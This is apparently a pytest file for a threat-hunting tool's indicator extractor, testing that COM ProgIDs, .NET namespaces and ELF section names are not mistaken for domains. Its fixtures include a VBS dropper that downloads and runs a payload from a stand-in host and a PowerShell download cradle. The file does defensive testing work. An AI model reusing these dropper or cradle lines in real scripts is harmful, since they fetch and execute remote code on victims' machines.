"""COM ProgIDs, ELF section names and .NET namespaces that end in a real TLD are no domains."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from huntbook.analysis.iocs import extract_iocs
from huntbook.analysis.iocs.code_names import COM_PROGIDS, DOTNET_NAMES, ELF_SECTIONS
from huntbook.analysis.iocs.validators import domain

DATA = Path(__file__).parent / "data"

VBS_DROPPER = """\
On Error Resume Next
Dim sh, fso, http, stm, net, app
Set sh = createobject("wscript.shell")
Set net = CreateObject( "wscript.network" )
Set fso = CreateObject("scripting.filesystemobject")
Set http = CreateObject("msxml2.xmlhttp")
Set stm = CreateObject("adodb.stream")
Set app = GetObject("", "shell.application")
Set req = CreateObject("winhttp.winhttprequest.5.1")
http.Open "GET", "http://update.evil-cdn.network/p/stage2.bin", False
http.Send
stm.Type = 1 : stm.Open : stm.Write http.responseBody
stm.SaveToFile sh.ExpandEnvironmentStrings("%TEMP%") & "\\s.exe", 2
sh.Run "cmd /c %TEMP%\\s.exe --c2 beacon.c2.stream", 0
"""

PS_CRADLE = (
    "$s = new-object -com wscript.shell; $a = New-Object -ComObject shell.application; "
    "[system.io.file]::writeallbytes($p, $b); using namespace system.net; "
    "$x = [activator]::createinstance([type]::gettypefromprogid('adodb.stream')); "
    "(new-object system.net.webclient).downloadstring('http://198.51.100.7/a'); nslookup c2.example.io"
)


def domains(text: str, **options: bool) -> list[str]:
    return extract_iocs(text, types="domain", **options)["observable"].tolist()  # type: ignore[arg-type]


def test_a_vbs_dropper_reports_its_hosts_not_its_progids() -> None:
    assert domains(VBS_DROPPER) == ["update.evil-cdn.network", "beacon.c2.stream"]
    found = extract_iocs(VBS_DROPPER, types=["domain", "url"])
    assert found["observable"].tolist() == ["http://update.evil-cdn.network/p/stage2.bin", "beacon.c2.stream"]
    asked = set(domains(VBS_DROPPER, allow_code_names=True))
    assert {"wscript.shell", "adodb.stream", "wscript.network"} <= asked


def test_a_powershell_script_reports_its_hosts_not_its_progids_or_namespaces() -> None:
    assert domains(PS_CRADLE) == ["c2.example.io"]


def test_recorded_readelf_sections_are_no_domains() -> None:
    text = (DATA / "readelf_libc.txt").read_text()
    assert {"note.gnu.property", "plt.got", "data.rel.ro"} <= set(domains(text, allow_code_names=True))
    assert domains(text) == []


@pytest.mark.skipif(shutil.which("readelf") is None, reason="needs binutils' readelf")
def test_readelf_of_this_python_reports_no_domains() -> None:
    output = subprocess.run(
        ["readelf", "-SW", str(Path(sys.executable).resolve())], capture_output=True, text=True, check=True
    ).stdout
    assert ".note.gnu" in output or ".text" in output
    assert domains(output) == []


def test_section_names_of_strings_output_after_a_dot() -> None:
    text = ".shstrtab\n.note.gnu.property\n.note.gnu.build-id\n.text.hot\n.rela.text.hot\n"
    text += ".note.crashpad.info\n"
    assert domains(text) == []
    assert "note.gnu.property" in domains(text, allow_code_names=True)


@pytest.mark.parametrize(
    "text",
    [
        "c2 at evil.shell and cdn.stream",
        "beacon to data.example.ro",
        "notes.gnu.property.example.info",
        "mail.system.io",
        "visit wscript.shell.evil.com",
        "createobject(x) then evil.network",
    ],
)
def test_real_hosts_with_the_same_tlds_stay(text: str) -> None:
    assert domains(text) == domains(text, allow_code_names=True) != []


def test_every_listed_name_that_a_tld_would_make_a_host_is_left_out() -> None:
    """The lists hold only names of code; each that ends in a real TLD is dropped, and kept when asked."""
    check, allowing = domain(False, False), domain(False, False, allow_code_names=True)
    names = [n.lstrip(".") for n in (*COM_PROGIDS, *DOTNET_NAMES, *ELF_SECTIONS)]
    hosts = [n for n in names if allowing(f" {n} ".encode(), 1, 1 + len(n))]
    assert len(hosts) >= 10
    assert [n for n in hosts if check(f" {n} ".encode(), 1, 1 + len(n))] == []
